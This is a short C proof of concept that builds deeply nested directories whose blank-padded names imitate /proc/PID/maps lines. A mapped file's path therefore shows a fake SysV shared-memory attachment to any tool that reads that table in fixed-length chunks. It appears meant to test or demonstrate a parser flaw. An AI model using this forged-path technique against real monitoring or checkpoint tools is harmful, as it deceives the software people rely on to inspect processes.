/*
 * forged_maps.c - maps a file whose path looks like a line of /proc/PID/maps
 *
 * Whoever reads that table with lines of a fixed length takes the end of a long
 * path for the next line: here one about an attachment of a segment.
 */
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <unistd.h>

enum {
    NAME = 230,
    DEPTH = 14
};

static void enter(const char *name)
{
    if (mkdir(name, 0700) == -1 || chdir(name) == -1)
        err(EXIT_FAILURE, "mkdir");
}

int main(void)
{
    int shmid = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
    if (shmid == -1)
        err(EXIT_FAILURE, "shmget");
    /* Blanks in front, so that it is found wherever a line is cut. */
    for (int i = 0; i < DEPTH; i++) {
        char line[100], name[NAME + 1];
        snprintf(line, sizeof line, "70000000-70001000 rw-s 00000000 00:01 %d ",
                 shmid);
        snprintf(name, sizeof name, "%*s", NAME, line);
        enter(name);
        enter("SYSV00000000 (deleted)");
    }
    int fd = open("end", O_RDWR | O_CREAT, 0600);
    if (fd == -1 || ftruncate(fd, 4096) == -1 ||
        mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0) == MAP_FAILED)
        err(EXIT_FAILURE, "mmap");
    shmctl(shmid, IPC_RMID, NULL);
    return EXIT_SUCCESS;
}
